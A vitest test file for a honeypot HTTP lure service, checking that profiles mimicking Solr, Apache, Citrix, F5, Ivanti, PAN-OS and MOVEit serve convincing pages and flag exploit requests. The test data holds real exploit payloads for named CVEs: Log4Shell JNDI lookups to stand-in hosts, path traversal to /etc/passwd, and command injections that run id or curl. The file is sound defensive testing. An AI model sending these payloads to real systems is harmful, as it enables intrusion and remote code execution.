import { connect } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createMemorySink, type MemorySink } from '../log/memory-sink.js';
import { DEFAULT_LIMITS, type RunningService } from '../service.js';
import { loadProfiles } from '../profiles/load-profiles.js';
import { createCatalogue } from '../profiles/catalogue.js';
import type { LureProfile } from '../profiles/profile-types.js';
import { startHttpService } from './http-service.js';

/** A request sent byte for byte (no client-side normalisation of `../` or `%`). */
interface Raw {
  method?: string;
  path: string;
  headers?: Record<string, string>;
  body?: string;
}

function send(port: number, r: Raw): Promise<string> {
  const body = r.body ?? '';
  const head = [`${r.method ?? 'GET'} ${r.path} HTTP/1.1`, 'Host: lure.test', 'Connection: close', ...Object.entries(r.headers ?? {}).map(([k, v]) => `${k}: ${v}`)];
  if (body !== '') head.push(`Content-Length: ${String(Buffer.byteLength(body))}`);
  return new Promise((resolve, reject) => {
    const s = connect({ host: '127.0.0.1', port }, () => s.end(`${head.join('\r\n')}\r\n\r\n${body}`));
    const chunks: Buffer[] = [];
    s.on('data', (c: Buffer) => chunks.push(c));
    s.on('close', () => resolve(Buffer.concat(chunks).toString('utf8')));
    s.on('error', reject);
  });
}

interface Case {
  profile: string;
  exploits: { name: string; req: Raw; cve: string }[];
  benign: Raw[];
  /** Something in a normal page that makes the lure look like the product. */
  looksLike: { req: Raw; contains: string };
}

const UA = { 'User-Agent': 'Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0' };
const CASES: Case[] = [
  {
    profile: 'log4shell',
    exploits: [
      { name: 'plain JNDI in User-Agent', req: { path: '/solr/', headers: { 'User-Agent': '${jndi:ldap://198.51.100.7:1389/Exploit}' } }, cve: 'CVE-2021-44228' },
      { name: 'lower-case obfuscation in X-Api-Version', req: { path: '/', headers: { 'X-Api-Version': '${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://x.example/a}' } }, cve: 'CVE-2021-44228' },
      { name: 'default-value obfuscation in the query, URL-encoded', req: { path: '/solr/admin/cores?action=%24%7B%24%7B%3A%3A-j%7D%24%7B%3A%3A-n%7Ddi%3Armi%3A%2F%2Fx.example%2Fa%7D' }, cve: 'CVE-2021-44228' },
      { name: 'env-default obfuscation in the body', req: { method: 'POST', path: '/solr/admin/cores', body: 'q=${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x.example/a}' }, cve: 'CVE-2021-44228' },
      { name: 'loopback # bypass', req: { path: '/', headers: { Referer: '${jndi:ldap://127.0.0.1#evil.example:1389/a}' } }, cve: 'CVE-2021-45046' },
    ],
    benign: [{ path: '/solr/', headers: UA }, { path: '/solr/admin/info/system?wt=json', headers: { ...UA, 'X-Note': 'price is ${amount}' } }],
    looksLike: { req: { path: '/solr/' }, contains: '<title>Solr Admin</title>' },
  },
  {
    profile: 'apache-traversal',
    exploits: [
      { name: '2.4.49 .%2e traversal to /etc/passwd', req: { path: '/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd' }, cve: 'CVE-2021-41773' },
      { name: '2.4.49 cgi-bin RCE', req: { method: 'POST', path: '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', body: 'echo Content-Type: text/plain; echo; id' }, cve: 'CVE-2021-41773' },
      { name: '2.4.50 double-encoded %%32%65', req: { path: '/cgi-bin/.%%32%65/.%%32%65/.%%32%65/.%%32%65/etc/passwd' }, cve: 'CVE-2021-42013' },
      { name: '2.4.50 %252e', req: { path: '/icons/%252e%252e/%252e%252e/etc/passwd' }, cve: 'CVE-2021-42013' },
    ],
    benign: [{ path: '/', headers: UA }, { path: '/icons/apache_pb.gif' }, { path: '/docs/a%20b.html' }],
    looksLike: { req: { path: '/' }, contains: 'It works!' },
  },
  {
    profile: 'phpunit-eval-stdin',
    exploits: [
      { name: 'POST PHP to eval-stdin.php', req: { method: 'POST', path: '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', body: '<?php echo md5("phpunit"); ?>' }, cve: 'CVE-2017-9841' },
      { name: 'encoded path under a sub-folder', req: { method: 'GET', path: '/lib/phpunit/src/Util/PHP/eval%2Dstdin.php' }, cve: 'CVE-2017-9841' },
    ],
    benign: [{ path: '/' }, { path: '/vendor/autoload.php' }],
    looksLike: { req: { path: '/' }, contains: 'Laravel' },
  },
  {
    profile: 'spring4shell',
    exploits: [
      { name: 'AccessLogValve pattern in the body', req: { method: 'POST', path: '/greeting', headers: { 'Content-Type': 'application/x-www-form-urlencoded' }, body: 'class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp' }, cve: 'CVE-2022-22965' },
      { name: 'in the query string, encoded', req: { path: '/?class%2Emodule%2EclassLoader%2EURLs%5B0%5D=0' }, cve: 'CVE-2022-22965' },
    ],
    benign: [{ method: 'POST', path: '/greeting', headers: { 'Content-Type': 'application/x-www-form-urlencoded' }, body: 'name=class.module' }],
    looksLike: { req: { path: '/nope' }, contains: 'Apache Tomcat/9.0.60' },
  },
  {
    profile: 'citrix-adc',
    exploits: [
      { name: '/vpn/../vpns/ newbm.pl', req: { method: 'POST', path: '/vpn/../vpns/portal/scripts/newbm.pl', headers: { NSC_USER: '../../../netscaler/portal/templates/x', NSC_NONCE: 'nsroot' }, body: "url=http://example.com&title=[%25 template.new({'BLOCK'='print `id`'}) %25]" }, cve: 'CVE-2019-19781' },
      { name: 'encoded traversal', req: { path: '/vpn/%2e%2e/vpns/cfg/smb.conf' }, cve: 'CVE-2019-19781' },
      { name: 'formssso overflow', req: { path: `/gwtest/formssso?event=start&target=${'A'.repeat(300)}` }, cve: 'CVE-2023-3519' },
    ],
    benign: [{ path: '/vpn/index.html' }, { path: '/gwtest/formssso?event=start' }],
    looksLike: { req: { path: '/vpn/index.html' }, contains: '<title>Citrix Gateway</title>' },
  },
  {
    profile: 'f5-bigip',
    exploits: [
      { name: 'Connection hop-by-hop X-F5-Auth-Token', req: { method: 'POST', path: '/mgmt/tm/util/bash', headers: { Connection: 'keep-alive, X-F5-Auth-Token', 'X-F5-Auth-Token': 'a', Authorization: 'Basic YWRtaW46', 'Content-Type': 'application/json' }, body: '{"command":"run","utilCmdArgs":"-c id"}' }, cve: 'CVE-2022-1388' },
      { name: 'token header alone', req: { method: 'POST', path: '/mgmt/tm/util/bash', headers: { 'X-F5-Auth-Token': '' }, body: '{}' } , cve: 'CVE-2022-1388' },
    ],
    benign: [{ path: '/tmui/login.jsp' }, { method: 'POST', path: '/mgmt/tm/util/bash', headers: { Authorization: 'Basic YWRtaW46YWRtaW4=' }, body: '{}' }],
    looksLike: { req: { path: '/tmui/login.jsp' }, contains: 'BIG-IP' },
  },
  {
    profile: 'ivanti-connect-secure',
    exploits: [
      { name: 'auth bypass probe', req: { path: '/api/v1/totp/user-backup-code/../../system/system-information' }, cve: 'CVE-2023-46805' },
      { name: 'command injection via license/keys-status', req: { path: '/api/v1/totp/user-backup-code/../../license/keys-status/%3bpython%20%2dc%20%27import%20socket%27%3b' }, cve: 'CVE-2024-21887' },
    ],
    benign: [{ path: '/dana-na/auth/url_default/welcome.cgi' }, { path: '/api/v1/totp/user-backup-code' }],
    looksLike: { req: { path: '/dana-na/auth/url_default/welcome.cgi' }, contains: 'Ivanti Connect Secure' },
  },
  {
    profile: 'panos-globalprotect',
    exploits: [
      { name: 'SESSID to device_telemetry', req: { method: 'POST', path: '/ssl-vpn/hipreport.esp', headers: { Cookie: 'SESSID=/../../../opt/panlogs/tmp/device_telemetry/minute/y`curl${IFS}x.example`' } }, cve: 'CVE-2024-3400' },
      { name: 'encoded SESSID', req: { method: 'POST', path: '/ssl-vpn/hipreport.esp', headers: { Cookie: 'lang=en; SESSID=%2e%2e/%2e%2e/%2e%2e/opt/panlogs/tmp/device_telemetry/hour/aaa' } }, cve: 'CVE-2024-3400' },
    ],
    benign: [{ path: '/global-protect/login.esp', headers: { Cookie: 'SESSID=5a1f0c9e2d' } }],
    looksLike: { req: { path: '/global-protect/login.esp' }, contains: 'GlobalProtect Portal' },
  },
  {
    profile: 'moveit-transfer',
    exploits: [
      { name: 'isapi m2 with siLock headers', req: { path: '/moveitisapi/moveitisapi.dll?action=m2', headers: { 'X-siLock-Transaction': 'folder_add_by_path', 'X-siLock-SessVar0': 'MyUsername: Guest' } }, cve: 'CVE-2023-34362' },
      { name: 'guestaccess POST', req: { method: 'POST', path: '/guestaccess.aspx', headers: { 'Content-Type': 'application/x-www-form-urlencoded' }, body: 'transaction=secmsgpost&Arg06=123' }, cve: 'CVE-2023-34362' },
    ],
    benign: [{ path: '/human.aspx' }, { path: '/guestaccess.aspx' }],
    looksLike: { req: { path: '/human.aspx' }, contains: 'MOVEit Transfer' },
  },
];

const catalogue = createCatalogue(loadProfiles());
const exploitsOf = (sink: MemorySink): Record<string, unknown>[] => sink.events.filter((e) => (e.eventid as string) === 'waggle.http.exploit') as unknown as Record<string, unknown>[];

for (const c of CASES) {
  describe(`HTTP lure ${c.profile} (real listener on 127.0.0.1)`, () => {
    const sink = createMemorySink();
    let service: RunningService;
    let n = 0;
    beforeAll(async () => {
      const profile = catalogue.get(c.profile) as LureProfile;
      service = await startHttpService({ host: '127.0.0.1', port: 0, profile }, { sink, sensor: 'test-sensor', limits: { ...DEFAULT_LIMITS, ratePerIpPerMinute: 10_000 }, now: () => new Date(), sessionId: () => (n++).toString(16).padStart(12, '0') });
    });
    afterAll(async () => service.close());

    it('answers like the product', async () => {
      const text = await send(service.port, c.looksLike.req);
      expect(text).toContain(c.looksLike.contains);
      expect(catalogue.get(c.profile).cves.length).toBeGreaterThan(0);
    });

    for (const x of c.exploits) {
      it(`detects ${x.cve}: ${x.name}`, async () => {
        const before = exploitsOf(sink).length;
        await send(service.port, x.req);
        const found = exploitsOf(sink).slice(before);
        expect(found.map((e) => e.cve)).toContain(x.cve);
        const hit = found.find((e) => e.cve === x.cve) as Record<string, unknown>;
        expect(hit.profile).toBe(c.profile);
        expect(hit.technique).toMatch(/^T\d{4}/);
        expect((hit.evidence as string[]).length).toBeGreaterThan(0);
        expect(hit.src_ip).toBe('127.0.0.1');
        expect(hit.sensor).toBe('test-sensor');
        const request = sink.events.filter((e) => e.eventid === 'waggle.http.request' && e.session === hit.session);
        expect(request.length).toBe(1);
      });
    }

    it('does not flag benign requests', async () => {
      const before = exploitsOf(sink).length;
      const requestsBefore = sink.byId('waggle.http.request').length;
      for (const b of c.benign) await send(service.port, b);
      expect(sink.byId('waggle.http.request').length).toBe(requestsBefore + c.benign.length);
      expect(exploitsOf(sink).slice(before)).toEqual([]);
    });
  });
}
